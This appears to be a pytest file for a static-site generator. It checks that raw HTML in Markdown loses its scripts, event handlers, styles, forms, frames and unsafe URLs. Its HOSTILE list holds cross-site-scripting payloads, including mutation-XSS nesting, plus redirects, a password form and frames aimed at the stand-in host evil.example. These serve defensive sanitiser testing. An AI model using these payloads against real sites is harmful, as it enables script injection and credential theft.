"""With `raw_html: true` the HTML a researcher types keeps its formatting and loses everything active:
scripts, event handlers, styles, refreshes, forms, frames and any address but http, https, mailto or relative."""

from __future__ import annotations

import pytest
from html_tools import parse, parse_file

from microsite.commands.build import build
from microsite.source.reader import markdown_renderer, render_markdown

FORBIDDEN_TAGS = {"script", "style", "meta", "base", "link", "form", "input", "button", "iframe", "frame"}
FORBIDDEN_TAGS |= {"object", "embed", "svg", "math", "template", "textarea", "select", "applet", "noscript"}

# Each of these alone, as a block and inline, must lose what makes it active.
HOSTILE = [
    '<a href="javascript:alert(1)">j</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="jav&#x09;ascript:alert(1)">entity tab</a>',
    '<a href="&#106;avascript:alert(1)">entity letter</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="d">',
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    '<img/src="x"/onerror="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<p style="background:url(https://evil.example/x)">styled</p>',
    '<div onclick="alert(1)" onmouseover="alert(2)">handlers</div>',
    '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)">s</a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    '<a href="https://example.com/" target="_blank" rel="opener" id="search" class="x">attrs</a>',
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]


def assert_inert(html: str) -> None:
    doc = parse(f"<body>{html}</body>")
    for element in doc.iter():
        assert element.tag not in FORBIDDEN_TAGS, (element.tag, html)
        for name, value in element.attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name not in ("style", "id", "target", "rel", "action", "formaction", "srcset", "xlink:href"), html
            if name in ("href", "src", "cite"):
                address = (value or "").strip().lower()
                assert address.startswith(("http:", "https:", "mailto:")) or ":" not in address.split("/")[0], html
    assert "alert(" not in "".join(element.text() for element in doc.iter() if element.tag == "script")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_raw_html_block_loses_what_is_active(hostile):
    assert_inert(render_markdown(markdown_renderer(allow_html=True), f"Before.\n\n{hostile}\n\nAfter."))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_inline_raw_html_loses_what_is_active(hostile):
    assert_inert(render_markdown(markdown_renderer(allow_html=True), f"Some *words* {hostile} and more words."))


def test_a_tag_opened_in_one_line_and_closed_in_another_is_judged_whole():
    # Python-Markdown keeps each half of an inline tag apart: only the joined HTML shows what the link is.
    html = render_markdown(markdown_renderer(allow_html=True), 'A <a href="javascript:alert(1)">link *with* words</a>.')
    assert_inert(html)
    assert "link <em>with</em> words" in html


def test_the_formatting_a_researcher_writes_is_kept():
    body = """\
A <abbr title="Huawei Technologies">HW</abbr> figure<sup>1</sup>, H<sub>2</sub>O, <mark>marked</mark>,
<kbd>Ctrl</kbd>, <q cite="https://example.com/q">quoted</q>, <del>old</del> <ins>new</ins>,
<time datetime="2017-12-08">8 December</time>, <a href="https://example.com/" title="t">web</a>,
<a href="mailto:editor@example.com">mail</a>, <a href="other.html#x">relative</a>.

<figure><img src="https://example.com/chart.png" alt="A chart" width="300"><figcaption>Shares</figcaption></figure>

<details><summary>More</summary><p>Hidden detail.</p></details>

<table><caption>Sales</caption><thead><tr><th scope="col" colspan="2">Q</th></tr></thead>
<tbody><tr><td rowspan="1">1</td><td>2</td></tr></tbody></table>

| left | right |
|:-----|------:|
| a    | b     |

```python
x = 1 < 2
```
"""
    html = render_markdown(markdown_renderer(allow_html=True), body)
    doc = parse(f"<body>{html}</body>")
    tags = {element.tag for element in doc.iter()}
    wanted = {"abbr", "sup", "sub", "mark", "kbd", "q", "del", "ins", "time", "a", "figure", "img", "figcaption"}
    assert wanted | {"details", "summary", "table", "caption", "thead", "tbody", "th", "td", "pre", "code"} <= tags
    assert doc.find_all("abbr", title="Huawei Technologies")
    assert doc.find_all("a", href="mailto:editor@example.com") and doc.find_all("a", href="other.html#x")
    assert doc.find_all("img", src="https://example.com/chart.png", alt="A chart", width="300")
    assert doc.find_all("th", scope="col", colspan="2")
    assert doc.find_all("th", style="text-align: left;") and doc.find_all("td", style="text-align: right;")
    assert doc.find_all("code", class_="language-python")
    assert "x = 1 &lt; 2" in html


def test_on_the_built_page_with_raw_html_on(site, tmp_path):
    site.write("site.yaml", (site.root / "site.yaml").read_text(encoding="utf-8") + "raw_html: true\n")
    page = (site.root / "content/talks.md").read_text(encoding="utf-8")
    # (The last of them leaves a <style> open, as a browser would too: it swallows what follows, so "kept" comes first.)
    site.page(page + "\n<sup>kept</sup>\n\n" + "\n\n".join(HOSTILE) + "\n\nInline " + " ".join(HOSTILE) + "\n")
    out = tmp_path / "out"
    build(site.root, out)
    doc = parse_file(out / "articles/talks.html")
    main = doc.by_class("summary")[0]  # the body's section; its heading is the site's own
    assert_inert("".join(_html(child) for child in main.children[1:] if getattr(child, "tag", "") != "h2"))
    metas = doc.find_all("meta")
    assert not [meta for meta in metas if (meta.attrs.get("http-equiv") or "").lower() == "refresh"]
    assert not doc.find_all("base") and not doc.find_all("iframe")
    assert [form.attrs["class"] for form in doc.find_all("form")] == ["site-search"]  # the site's own, no other
    assert [sup.text() for sup in main.find_all("sup")] == ["kept"]


def _html(node) -> str:
    """An element of html_tools back as HTML, for assert_inert."""
    import html

    if isinstance(node, str):
        return html.escape(node)
    attrs = "".join(f' {name}="{html.escape(value or "")}"' for name, value in node.attrs.items())
    return f"<{node.tag}{attrs}>" + "".join(_html(child) for child in node.children) + f"</{node.tag}>"
